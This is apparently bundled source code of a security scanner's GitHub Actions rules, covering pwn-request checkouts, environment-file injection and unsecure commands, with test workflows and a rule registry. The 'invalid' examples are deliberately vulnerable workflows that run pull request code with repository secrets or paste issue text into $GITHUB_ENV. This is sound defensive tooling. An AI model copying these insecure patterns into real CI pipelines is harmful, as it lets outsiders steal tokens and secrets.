    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job", "step"],
    description: "`ACTIONS_ALLOW_UNSECURE_COMMANDS: true` turns back on the `::set-env` and `::add-path` commands that GitHub disabled because any text a step prints could use them. A log line that echoes a pull request title, a file name or a dependency's output can then set `LD_PRELOAD`, `NODE_OPTIONS` or the `PATH` of every later step and run code there.",
    remediation: "Remove the variable and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead; upgrade actions that still print `::set-env`.",
    precision: "very-high",
    cwe: ["CWE-77"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "ci-insecure-setting"],
    references: ["https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/"]
  },
  check(resource, { report }) {
    const env = resource.attributes.env;
    if (!isObject(env)) return;
    for (const [name, value] of Object.entries(env)) {
      if (name.toUpperCase() === "ACTIONS_ALLOW_UNSECURE_COMMANDS" && isTrue2(value)) {
        report({ at: ["env", name], message: `${resource.name} sets ACTIONS_ALLOW_UNSECURE_COMMANDS, re-enabling the insecure set-env and add-path commands` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$HOME/.local/bin" >> "$GITHUB_PATH"
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  build:
    runs-on: ubuntu-latest
    env:
      ACTIONS_ALLOW_UNSECURE_COMMANDS: true
    steps:
      - run: echo "::add-path::$HOME/.local/bin"
`,
        errors: [{ line: 6, column: 7 }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-untrusted-checkout-exec.ts
var gha_untrusted_checkout_exec_default = defineRule({
  meta: {
    id: "gha-untrusted-checkout-exec",
    title: "Privileged workflow runs code from a pull request",
    severity: "critical",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "After checking out a pull request's code, this `pull_request_target`, `workflow_run` or `issue_comment` job runs something from that tree: a package install with its lifecycle scripts, a Makefile, a test suite, a repository script or a local action. The pull request's author decides what that code does, and it runs with the repository's secrets and a token that can write.",
    remediation: "Run builds and tests of pull requests in a `pull_request` workflow. In the privileged workflow, work only on trusted code (the base branch) and read the pull request's results as artifacts, treated as data.",
    precision: "high",
    cwe: ["CWE-829", "CWE-94"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "pull_request_target", "workflow_run", "ci-untrusted-checkout"],
    references: ["https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"]
  },
  check(step, { report, graph }) {
    const workflow = workflowOf(step, graph);
    const trigger = hasAnyTrigger(triggersOf(workflow), ["pull_request_target", "workflow_run", "issue_comment"]);
    const job = jobOf(step, graph);
    if (!trigger || !job) return;
    const checkout = firstUntrustedCheckout(job, graph);
    if (!checkout) return;
    const index = stepsOf(job, graph).indexOf(step);
    if (index <= checkout.index) return;
    if (trigger === "issue_comment" && commenterChecked(job, checkout.step, graph)) return;
    const what = workspaceCodeRun(step);
    if (!what) return;
    report({
      at: step.attributes.run !== void 0 ? ["run"] : ["uses"],
      message: `runs ${what} on untrusted code checked out from the pull request head in a ${trigger} workflow, with the repository's token and secrets`,
      related: [{ resource: checkout.step.id, at: checkout.checkout.at, message: `untrusted checkout (${checkout.checkout.what})` }]
    });
  },
  examples: {
    valid: [
      {
        name: "base branch checkout, then build",
        filename: ".github/workflows/size.yml",
        code: `on: pull_request_target
jobs:
  size:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - run: npm ci && npm run size
`
      },
      {
        name: "head checked out but only read",
        filename: ".github/workflows/lint-title.yml",
        code: `on: pull_request_target
jobs:
  files:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.pull_request.head.sha }}
          path: pr
      - run: echo "npm install is not run here"; ls pr
`
      }
    ],
    invalid: [
      {
        name: "install after checking out the head",
        filename: ".github/workflows/preview.yml",
        code: `on: pull_request_target
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - uses: actions/setup-node@39370e3970a6d050c480ffad4ff0ed4d3fdee5af
      - run: npm ci
      - uses: ./.github/actions/deploy-preview
`,
        errors: [
          { line: 10, column: 9, messageIncludes: "npm ci" },
          { line: 11, column: 9, messageIncludes: "local action" }
        ]
      },
      {
        name: "comment-triggered test run without a commenter check",
        filename: ".github/workflows/retest.yml",
        code: `on: issue_comment
jobs:
  retest:
    if: github.event.issue.pull_request && contains(github.event.comment.body, '/retest')
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: refs/pull/\${{ github.event.issue.number }}/head
      - run: make test
`,
        errors: [{ line: 10, column: 9, messageIncludes: "make" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-untrusted-checkout.ts
var gha_untrusted_checkout_default = defineRule({
  meta: {
    id: "gha-untrusted-checkout",
    title: "Privileged workflow checks out pull request code",
    severity: "high",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "`pull_request_target` and `workflow_run` workflows run with the base repository's secrets and a token that can write, even for pull requests from forks. Checking out the pull request's head (or the head of the run that triggered the workflow) puts code an outsider wrote into that privileged job, where any build script, test or local action can steal the token and secrets (a \"pwn request\").",
    remediation: "Build and test untrusted code in a `pull_request` workflow, which has no secrets and a read-only token for forks. If the privileged workflow needs the results, pass them as artifacts and treat them as data. If it must see the code, check it out into a separate directory and never execute anything from it.",
    precision: "high",
    cwe: ["CWE-829"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "pull_request_target", "workflow_run", "ci-untrusted-checkout"],
    references: [
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
      "https://docs.github.com/en/actions/writing-workflows/choosing-when-your-workflow-runs/events-that-trigger-workflows#pull_request_target"
    ]
  },
  check(step, { report, graph }) {
    const trigger = hasAnyTrigger(triggersOf(workflowOf(step, graph)), ["pull_request_target", "workflow_run"]);
    if (!trigger) return;
    const checkout = untrustedCheckout(step);
    if (!checkout) return;
    const whose = trigger === "workflow_run" ? "the head of the run that triggered it" : "the pull request head";
    report({
      at: checkout.at,
      message: `this ${trigger} workflow checks out ${whose} (${checkout.what}): untrusted code then runs with the repository's token and secrets`
    });
  },
  examples: {
    valid: [
      {
        name: "checkout without ref checks out the base branch",
        filename: ".github/workflows/label.yml",
        code: `on: pull_request_target
permissions:
  pull-requests: write
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - uses: actions/labeler@8558fd74291d67161a8a78ce36a881fa63b766a9
`
      },
      {
        name: "a pull_request workflow may build the head",
        filename: ".github/workflows/ci.yml",
        code: `on: pull_request
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: make test
`
      }
    ],
    invalid: [
      {
        name: "pull_request_target checks out the head SHA",
        filename: ".github/workflows/preview.yml",
        code: `on: pull_request_target
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm run build
`,
        errors: [{ line: 8, column: 11, messageIncludes: "pull_request_target" }]
      },
      {
        name: "workflow_run checks out the triggering run's head",
        filename: ".github/workflows/report.yml",
        code: `on:
  workflow_run:
    workflows: [CI]
    types: [completed]
jobs:
  report:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.workflow_run.head_sha }}
`,
        errors: [{ line: 11, column: 11, messageIncludes: "workflow_run" }]
      },
      {
        name: "merge ref fetched with gh",
        filename: ".github/workflows/bench.yml",
        code: `on: pull_request_target
jobs:
  bench:
    runs-on: ubuntu-latest
    steps:
      - run: gh pr checkout \${{ github.event.pull_request.number }}
        env:
          GH_TOKEN: \${{ github.token }}
`,
        errors: [{ line: 6, column: 9, messageIncludes: "gh pr checkout" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-untrusted-input-github-env.ts
var gha_untrusted_input_github_env_default = defineRule({
  meta: {
    id: "gha-untrusted-input-github-env",
    title: "Attacker-controlled text written to GITHUB_ENV or GITHUB_PATH",
    severity: "high",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "Lines written to the `$GITHUB_ENV` file become environment variables of every later step, and `$GITHUB_PATH` lines are searched for commands first. When the text comes from an issue, a comment, a branch name or a commit message, a newline in it lets its author set `LD_PRELOAD`, `NODE_OPTIONS`, `BASH_ENV` or the path, and so run code in later steps, even when the value is quoted safely in this one.",
    remediation: "Do not pass untrusted text through environment files. Keep it in the step's own `env:` where it is needed; if a later step needs it, use a step output and validate it (a number, a fixed pattern) first, or write it with a random heredoc delimiter.",
    precision: "high",
    cwe: ["CWE-77", "CWE-94"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
    tags: ["actions", "github-env", "ci-untrusted-input"],
    references: [
      "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#setting-an-environment-variable",
      "https://securitylab.github.com/resources/github-actions-untrusted-input/"
    ]
  },
  check(step, { report, graph }) {
    for (const write of environmentFileWrites(step, graph)) {
      if (write.file === "GITHUB_OUTPUT") continue;
      const through = write.variable ? ` through $${write.variable}` : "";
      report({
        at: ["run"],
        ...write.range ? { range: write.range } : {},
        message: `untrusted ${write.context} is written${through} to $${write.file}: a newline in it injects environment variables into later steps`
      });
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: \${{ github.event.issue.title }}
        run: |
          echo "ISSUE_NUMBER=\${{ github.event.issue.number }}" >> "$GITHUB_ENV"
          echo "Title: $TITLE"
`
      }
    ],
    invalid: [
      {
        name: "expression pasted into the env file",
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: |
          echo "TITLE=\${{ github.event.issue.title }}" >> $GITHUB_ENV
`,
        errors: [{ line: 7, column: 23, messageIncludes: "GITHUB_ENV" }]
      },
      {
        name: "through a job-level variable",
        filename: ".github/workflows/pr.yml",
        code: `on: pull_request_target
jobs:
  build:
    runs-on: ubuntu-latest
    env:
      BRANCH: \${{ github.head_ref }}
    steps:
      - run: echo "BRANCH_NAME=$BRANCH" >> "$GITHUB_ENV"
`,
        errors: [{ line: 8, column: 9, messageIncludes: "$BRANCH" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/supply-chain/gha-untrusted-input-github-output.ts
var gha_untrusted_input_github_output_default = defineRule({
  meta: {
    id: "gha-untrusted-input-github-output",
    title: "Attacker-controlled text written to GITHUB_OUTPUT",
    severity: "medium",
    category: "supply-chain",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "Each `name=value` line in `$GITHUB_OUTPUT` becomes a step output. Untrusted text (an issue title, a comment, a branch name) with a newline in it can forge other outputs of the step, and later steps or jobs that trust those outputs (a version, a target environment, a flag) then act on the attacker's values.",
    remediation: "Validate the value before writing it (a number, an allowed pattern), or write it with a random heredoc delimiter; never expand such outputs into scripts.",
    precision: "medium",
    cwe: ["CWE-74"],
    tags: ["actions", "step-outputs", "ci-untrusted-input"],
    references: ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/workflow-commands-for-github-actions#setting-an-output-parameter"]
  },
  check(step, { report, graph }) {
    for (const write of environmentFileWrites(step, graph)) {
      if (write.file !== "GITHUB_OUTPUT") continue;
      const through = write.variable ? ` through $${write.variable}` : "";
      report({
        at: ["run"],
        ...write.range ? { range: write.range } : {},
        message: `untrusted ${write.context} is written${through} to $GITHUB_OUTPUT, where a newline forges other step outputs`
      });
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/triage.yml",
        code: `on: issues
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - id: meta
        run: echo "number=\${{ github.event.issue.number }}" >> "$GITHUB_OUTPUT"
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/triage.yml",
        code: `on: issue_comment
jobs:
  parse:
    runs-on: ubuntu-latest
    steps:
      - id: command
        env:
          BODY: \${{ github.event.comment.body }}
        run: |
          echo "command=$BODY" >> "$GITHUB_OUTPUT"
`,
        errors: [{ line: 9, column: 9, messageIncludes: "$BODY" }]
      }
    ]
  }
});

// packages/rules/src/registry.ts
var registeredRules = [
  aws_ami_public_launch_permission_default,
  aws_certificate_private_key_hardcoded_default,
  aws_codebuild_plaintext_secret_default,
  aws_database_hardcoded_password_default,
  aws_ec2_imdsv2_not_required_default,
  aws_ec2_user_data_hardcoded_secret_default,
  aws_ecr_repository_policy_public_default,
  aws_ecs_task_definition_hardcoded_secret_default,
  aws_eks_node_group_admin_role_default,
  aws_iam_admin_managed_policy_attached_default,
  aws_iam_password_policy_reuse_allowed_default,
  aws_iam_password_policy_short_minimum_length_default,
  aws_iam_policy_admin_access_default,
  aws_iam_policy_allow_not_action_default,
  aws_iam_policy_allow_not_resource_default,
  aws_iam_policy_sensitive_action_any_resource_default,
  aws_iam_policy_service_wildcard_default,
  aws_iam_role_cross_account_trust_without_external_id_default,
  aws_iam_role_github_oidc_any_repository_default,
  aws_iam_role_github_oidc_wildcard_subject_default,
  aws_iam_role_trust_any_principal_default,
  aws_iam_user_access_key_default,
  aws_iam_user_direct_policy_default,
  aws_kms_key_policy_any_principal_default,
  aws_lambda_environment_hardcoded_secret_default,
  aws_lambda_function_admin_role_default,
  aws_lambda_function_url_unauthenticated_default,
  aws_lambda_permission_any_principal_default,
  aws_neptune_iam_authentication_disabled_default,
  aws_opensearch_domain_policy_public_default,
  aws_provider_hardcoded_credentials_default,
  aws_s3_account_public_access_block_disabled_default,
  aws_s3_bucket_policy_public_principal_default,
  aws_s3_bucket_public_access_not_blocked_default,
  aws_s3_bucket_public_acl_default,
  aws_secretsmanager_secret_hardcoded_value_default,
  aws_ssm_parameter_secret_not_secure_string_default,
  aws_terraform_variable_hardcoded_secret_default,
  azure_aks_dashboard_enabled_default,
  azure_aks_rbac_disabled_default,
  azure_app_service_authentication_disabled_default,
  azure_hardcoded_admin_password_default,
  azure_linux_vm_password_authentication_default,
  azure_role_definition_wildcard_actions_default,
  azure_storage_account_public_blob_access_default,
  azure_storage_container_public_access_default,
  gcp_bigquery_dataset_public_default,
  gcp_compute_block_project_ssh_keys_default,
  gcp_compute_default_service_account_full_scope_default,
  gcp_compute_default_service_account_default,
  gcp_compute_os_login_disabled_default,
  gcp_compute_serial_port_enabled_default,
  gcp_gke_basic_auth_default,
  gcp_gke_client_certificate_default,
  gcp_gke_dashboard_enabled_default,
  gcp_gke_legacy_abac_default,
  gcp_gke_legacy_metadata_endpoints_default,
  gcp_gke_node_default_service_account_default,
  gcp_gke_workload_identity_missing_default,
  gcp_project_primitive_role_default,
  gcp_service_account_key_default,
  gcp_storage_bucket_public_acl_default,
  gcp_storage_bucket_public_iam_default,
  gcp_storage_bucket_uniform_access_default,
  aws_api_gateway_domain_outdated_tls_default,
  aws_athena_workgroup_encryption_at_rest_default,
  aws_backup_vault_customer_managed_key_default,
  aws_cloudfront_origin_http_default,
  aws_cloudfront_outdated_tls_version_default,
  aws_cloudfront_viewer_protocol_allow_all_default,
  aws_cloudtrail_customer_managed_key_default,
  aws_cloudwatch_log_group_customer_managed_key_default,
  aws_dax_encryption_at_rest_default,
  aws_docdb_encryption_at_rest_default,
  aws_docdb_tls_disabled_default,
  aws_dynamodb_table_customer_managed_key_default,
  aws_ebs_encryption_at_rest_default,
  aws_ebs_snapshot_encryption_at_rest_default,
  aws_ec2_instance_volume_encryption_default,
  aws_efs_encryption_at_rest_default,
  aws_eks_secrets_encryption_missing_default,
  aws_elasticache_encryption_at_rest_default,
  aws_elasticache_encryption_in_transit_default,
  aws_elb_listener_http_default,
  aws_kinesis_firehose_encryption_at_rest_default,
  aws_kinesis_stream_encryption_at_rest_default,
  aws_kms_key_rotation_disabled_default,
  aws_launch_configuration_volume_encryption_default,
  aws_launch_template_volume_encryption_default,
  aws_lb_listener_http_default,
  aws_lb_listener_outdated_tls_policy_default,
  aws_msk_customer_managed_key_default,
  aws_msk_encryption_in_transit_default,
  aws_neptune_encryption_at_rest_default,
  aws_opensearch_encryption_at_rest_default,
  aws_opensearch_https_not_enforced_default,
  aws_opensearch_node_to_node_encryption_default,
  aws_opensearch_outdated_tls_policy_default,
  aws_rds_encryption_at_rest_default,
  aws_redshift_encryption_at_rest_default,
  aws_s3_bucket_policy_allows_insecure_transport_default,
  aws_s3_encryption_at_rest_default,
  aws_sagemaker_notebook_customer_managed_key_default,
  aws_sns_topic_encryption_at_rest_default,
  aws_sqs_queue_encryption_at_rest_default,
  aws_transfer_server_plaintext_ftp_default,
  azure_app_service_ftp_allowed_default,
  azure_app_service_https_only_default,
  azure_app_service_minimum_tls_version_default,
  azure_database_minimum_tls_version_default,
  azure_database_ssl_enforcement_disabled_default,
  azure_key_vault_purge_protection_default,
  azure_managed_disk_encryption_disabled_default,
  azure_redis_minimum_tls_version_default,
  azure_redis_non_ssl_port_default,
  azure_storage_https_only_disabled_default,
  azure_storage_minimum_tls_version_default,
  gcp_compute_disk_cmek_default,
  gcp_kms_key_rotation_default,
  gcp_sql_ssl_not_required_default,
  aws_default_security_group_allows_traffic_default,
  aws_dms_replication_instance_public_default,
  aws_ec2_instance_public_ip_default,
  aws_eks_public_endpoint_default,
  aws_instance_public_ip_sensitive_port_open_default,
  aws_launch_template_public_ip_default,
  aws_mq_broker_publicly_accessible_default,
  aws_network_acl_ingress_open_default,
  aws_opensearch_not_in_vpc_default,
  aws_rds_publicly_accessible_default,
  aws_redshift_publicly_accessible_default,
  aws_sagemaker_notebook_direct_internet_access_default,
  aws_security_group_all_ports_open_default,
  aws_security_group_sensitive_port_open_default,
  aws_security_group_wide_port_range_open_default,
  aws_subnet_public_ip_on_launch_default,
  azure_aks_api_server_public_default,
  azure_aks_network_policy_missing_default,
  azure_cosmosdb_public_network_access_default,
  azure_database_public_network_access_default,
  azure_key_vault_network_default_allow_default,
  azure_nsg_all_ports_open_to_internet_default,
  azure_nsg_sensitive_port_open_to_internet_default,
  azure_nsg_ssh_rdp_open_to_internet_default,
  azure_postgresql_connection_throttling_disabled_default,
  azure_sql_firewall_open_to_internet_default,
  azure_storage_network_default_allow_default,
  gcp_compute_ip_forwarding_default,
  gcp_compute_public_ip_default,
  gcp_firewall_all_ports_open_to_internet_default,
  gcp_firewall_sensitive_port_open_to_internet_default,
  gcp_firewall_ssh_rdp_open_to_internet_default,
  gcp_gke_control_plane_open_to_internet_default,
  gcp_gke_master_authorized_networks_missing_default,
  gcp_gke_network_policy_disabled_default,
  gcp_gke_private_nodes_default,
  gcp_sql_authorized_network_open_default,
  gcp_sql_public_ip_default,
  aws_ecr_image_tags_mutable_default,
  aws_ecr_scan_on_push_disabled_default,
  aws_lambda_deprecated_runtime_default,
  aws_api_gateway_stage_access_logs_missing_default,
  aws_cloudtrail_log_file_validation_disabled_default,
  aws_cloudtrail_not_multi_region_default,
  aws_eks_control_plane_logging_incomplete_default,
  aws_lb_access_logs_disabled_default,
  azure_aks_monitoring_disabled_default,
  azure_defender_free_tier_default,
  azure_network_watcher_flow_log_disabled_default,
  azure_postgresql_logging_parameter_off_default,
  azure_security_center_alert_notifications_disabled_default,
  azure_sql_threat_detection_alerts_disabled_default,
  gcp_gke_logging_disabled_default,
  gcp_gke_monitoring_disabled_default,
  k8s_apparmor_unconfined_default,
  k8s_capabilities_added_default,
  k8s_capabilities_not_dropped_default,
  k8s_capability_net_raw_default,
  k8s_configmap_credentials_default,
  k8s_container_runtime_socket_default,
  k8s_dangerous_capabilities_default,
  k8s_default_service_account_default,
  k8s_exposed_workload_can_read_secrets_default,
  k8s_hardcoded_secret_env_default,
  k8s_host_ipc_default,
  k8s_host_path_sensitive_default,
  k8s_host_path_volume_default,
  k8s_host_pid_default,
  k8s_ingress_nginx_snippet_default,
  k8s_kube_system_workload_default,
  k8s_namespace_pod_security_not_enforced_default,
  k8s_privilege_escalation_allowed_default,
  k8s_privilege_escalation_not_disabled_default,
  k8s_privileged_container_default,
  k8s_proc_mount_unmasked_default,
  k8s_rbac_all_authenticated_binding_default,
  k8s_rbac_anonymous_binding_default,
  k8s_rbac_cluster_admin_binding_default,
  k8s_rbac_create_workloads_default,
  k8s_rbac_csr_approval_default,
  k8s_rbac_escalate_bind_impersonate_default,
  k8s_rbac_nodes_proxy_default,
  k8s_rbac_persistent_volume_create_default,
  k8s_rbac_pod_exec_default,
  k8s_rbac_secrets_read_default,
  k8s_rbac_service_account_token_create_default,
  k8s_rbac_webhook_configuration_default,
  k8s_rbac_wildcard_resources_default,
  k8s_rbac_wildcard_verbs_default,
  k8s_rbac_wildcard_default,
  k8s_read_only_root_filesystem_default,
  k8s_restricted_volume_types_default,
  k8s_run_as_non_root_not_set_default,
  k8s_run_as_root_group_default,
  k8s_run_as_root_user_default,
  k8s_seccomp_profile_missing_default,
  k8s_seccomp_unconfined_default,
  k8s_secret_in_manifest_default,
  k8s_selinux_custom_options_default,
  k8s_service_account_assumes_admin_aws_role_default,
  k8s_service_account_bound_to_cluster_admin_default,
  k8s_service_account_token_automount_default,
  k8s_service_account_token_secret_default,
  k8s_share_process_namespace_default,
  k8s_unsafe_sysctls_default,
  k8s_windows_host_process_default,
  k8s_ingress_ssl_redirect_disabled_default,
  k8s_ingress_without_tls_default,
  k8s_host_network_default,
  k8s_host_port_default,
  k8s_namespace_without_network_policy_default,
  k8s_network_policy_selects_no_pods_default,
  k8s_service_exposes_privileged_pods_default,
  k8s_service_external_ips_default,
  k8s_service_load_balancer_default,
  k8s_service_node_port_default,
  k8s_service_selects_no_pods_default,
  k8s_git_repo_volume_default,
  k8s_image_mutable_tag_default,
  k8s_image_without_digest_default,
  gha_checkout_persist_credentials_default,
  gha_hardcoded_credential_default,
  gha_oidc_token_on_pull_request_target_default,
  gha_permissions_missing_default,
  gha_permissions_read_all_default,
  gha_permissions_write_all_default,
  gha_pull_request_workflow_assumes_admin_role_default,
  gha_pull_request_write_permissions_default,
  gha_secrets_inherit_default,
  gha_secrets_to_json_default,
  gha_untrusted_checkout_id_token_default,
  gha_untrusted_checkout_secrets_default,
  gha_tls_verification_disabled_default,
  gha_action_not_pinned_default,
  gha_artifact_poisoning_default,
  gha_cache_poisoning_default,
  gha_comment_triggered_checkout_default,
  gha_compromised_action_default,
  gha_container_image_not_pinned_default,
  gha_deprecated_action_version_default,
  gha_dispatch_input_injection_default,
  gha_download_without_checksum_default,
  gha_event_payload_in_script_default,
  gha_known_vulnerable_action_default,
  gha_remote_script_exec_default,
  gha_self_hosted_runner_pull_request_default,
  gha_signature_verification_disabled_default,
  gha_spoofable_bot_check_default,
  gha_template_injection_default,
  gha_unsecure_commands_default,
  gha_untrusted_checkout_exec_default,
  gha_untrusted_checkout_default,
  gha_untrusted_input_github_env_default,
  gha_untrusted_input_github_output_default
];

// packages/rules/src/index.ts
var allRules = registeredRules;

export {
  allRules
};
